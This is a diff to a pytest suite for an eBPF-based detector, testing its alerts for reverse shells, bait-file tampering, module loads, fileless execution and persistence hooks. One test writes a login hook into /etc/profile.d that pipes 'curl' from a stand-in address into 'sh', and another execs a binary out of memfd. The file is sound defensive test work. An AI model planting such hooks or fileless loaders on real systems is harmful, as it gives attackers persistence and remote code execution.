@@ -19,6 +19,7 @@ import pytest
 
 from ebpfkit.tools import detect
 from guardctl import guard
+from helpers import alerts_within
 
 pytestmark = pytest.mark.vm(kernel=["6.1", "6.12"], lsm=True, timeout=1200)
 
@@ -50,14 +51,6 @@ def touched(real: dict[str, str]) -> list[str]:
         if not same:
             changed.append(path)
     return changed
-
-
-def alerts_of(session, seconds: float = 1.5) -> list:
-    end = time.monotonic() + seconds
-    found = []
-    while time.monotonic() < end:
-        found += session.poll(100)
-    return found
 
 
 def simulate(mode: str, top: Path) -> subprocess.CompletedProcess:
@@ -92,7 +85,7 @@ def test_a_reverse_shell_and_a_bait_writer_on_this_kernel(tmp_path):
         assert "watched files" in session.hook
         child = subprocess.run([sys.executable, "-c", shell], capture_output=True, timeout=60)
         run = simulate("in-place", top)
-        alerts = alerts_of(session)
+        alerts = alerts_within(session, 1.5)
     assert child.returncode == 0
     shells = [a for a in alerts if a.rule == "Reverse shell"]
     assert len(shells) == 1 and "T1059" in " ".join(shells[0].techniques), alerts
@@ -112,7 +105,7 @@ def test_the_guard_denies_what_detect_kills_for(tmp_path, tmpfs, mode):
         content = bait.read_bytes()
         with guard(tmp_path, f"baits: [{rules}]\n") as g:  # after detect planted them
             run = simulate(mode, top)
-            alerts = [a for a in alerts_of(session) if a.rule == BAIT_RULE]
+            alerts = [a for a in alerts_within(session, 1.5) if a.rule == BAIT_RULE]
             denials = g.lines(where=lambda line: "hook" in line)
         assert bait.read_bytes() == content, "the bait is intact: its change was denied"
     assert run.returncode == -signal.SIGKILL, run.stdout + run.stderr
@@ -127,11 +120,14 @@ def test_the_guard_denies_what_detect_kills_for(tmp_path, tmpfs, mode):
     assert not bait.exists(), "detect removed the bait it planted once the guard let it"
 
 
-def test_a_module_load_a_fileless_exec_and_a_profile_hook_there():
+def test_a_module_load_a_fileless_exec_and_a_profile_hook_there(tmp_path):
     """The VM kernels have modules (the host has none: no init_module tracepoints there); the
-    guest's /etc takes writes (they stay in the guest): a login hook planted in /etc/profile.d."""
+    guest's /etc takes writes (they stay in the guest): a login hook planted in /etc/profile.d
+    (the built-in rule switched on)."""
     hook = Path("/etc/profile.d/ebpfkit-test.sh")
-    with detect.open() as session:
+    on = tmp_path / "on.yaml"
+    on.write_text("- rule: File written where programs persist\n  enabled: true\n")
+    with detect.open(rules=(str(on),)) as session:
         assert session.missing == []
         hook.write_text("curl -s http://192.0.2.1/x | sh\n")
         load = subprocess.run([sys.executable, "-c", "import ctypes; "
@@ -140,7 +136,7 @@ def test_a_module_load_a_fileless_exec_and_a_profile_hook_there():
         fileless = subprocess.run([sys.executable, "-c", "import os\nfd = os.memfd_create('payload')\n"
                                    "os.write(fd, open('/bin/true', 'rb').read())\n"
                                    "os.execv(f'/proc/self/fd/{fd}', ['payload'])"], timeout=60)
-        alerts = alerts_of(session)
+        alerts = alerts_within(session, 1.5)
     hook.unlink()
     assert load.stdout.strip() == "-1" and fileless.returncode == 0
     wanted = ("Kernel module loaded directly", "Fileless execution", "File written where programs persist")
